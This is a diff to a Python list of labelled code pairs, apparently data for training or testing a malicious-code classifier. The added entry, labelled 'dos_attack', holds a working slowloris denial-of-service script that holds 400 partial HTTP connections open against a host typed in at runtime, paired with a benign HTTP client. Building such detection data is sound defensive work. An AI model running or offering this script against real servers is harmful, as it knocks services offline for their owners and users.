@@ -258,6 +258,19 @@ PAIRS = [
      "import socket, time\ns = socket.create_connection(('api.example.com', 80))\n"
      "s.send(b'POST /upload HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: 12\\r\\n\\r\\n')\n"
      "s.send(b'hello world!')\nprint(s.recv(4096))"),
+    ("flood: slowloris split into methods, opened from one loop and kept alive from another", "dos_attack",
+     "import socket, random, time\nclass Holder:\n    def __init__(self, host):\n        self.host, self.held = host, []\n"
+     "    def open_one(self):\n        s = socket.socket()\n        s.connect((self.host, 80))\n"
+     "        line = f'GET /?{random.randint(0, 9999)} HTTP/1.1\\r\\n'\n        s.send(line.encode('utf-8'))\n"
+     "        ua = f'User-Agent: {random.random()}\\r\\n'\n        s.send(ua.encode('utf-8'))\n        return s\n"
+     "    def fill(self):\n        for _ in range(400):\n            self.held.append(self.open_one())\n"
+     "    def keep(self):\n        while True:\n            for s in self.held:\n                self.nudge(s)\n"
+     "            time.sleep(10)\n    def nudge(self, s):\n        s.send(f'X-a: {random.randint(1, 5000)}\\r\\n'.encode('utf-8'))\n"
+     "h = Holder(input('host: '))\nh.fill()\nh.keep()",
+     "import socket\nclass Client:\n    def __init__(self, host):\n        self.host = host\n    def fetch(self, path):\n"
+     "        s = socket.socket()\n        s.connect((self.host, 80))\n"
+     "        s.send(f'GET {path} HTTP/1.1\\r\\nHost: {self.host}\\r\\n\\r\\n'.encode('utf-8'))\n        return s.recv(65536)\n"
+     "c = Client('example.org')\nfor p in ['/a', '/b', '/c']:\n    print(len(c.fetch(p)))"),
     ("server: an asyncio CONNECT relay on every interface", "proxy_tunnel",
      "import asyncio\nasync def pipe(r, w):\n    while data := await r.read(65536):\n        w.write(data)\n"
      "async def handle(reader, writer):\n    method, where, _ = (await reader.readline()).decode().split()\n"
